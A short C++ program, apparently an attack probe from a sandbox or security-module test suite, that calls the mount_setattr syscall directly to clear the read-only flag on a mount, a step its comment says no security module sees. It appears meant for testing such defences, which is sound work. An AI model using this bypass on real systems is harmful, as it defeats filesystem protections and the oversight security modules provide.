// SPDX-License-Identifier: MIT
// mount_attributes PATH: makes the mount at PATH writable, by a call that no security module sees.
#include <sys/syscall.h>

#include <cstdint>

#include "attack.hpp"

int main(int argc, char** argv) {
  if (argc != 2) return 2;
  uint64_t attributes[4] = {0, 1 /* MOUNT_ATTR_RDONLY */, 0, 0};
  return ended(
      syscall(442 /* mount_setattr */, AT_FDCWD, argv[1], 0, attributes, sizeof attributes));
}
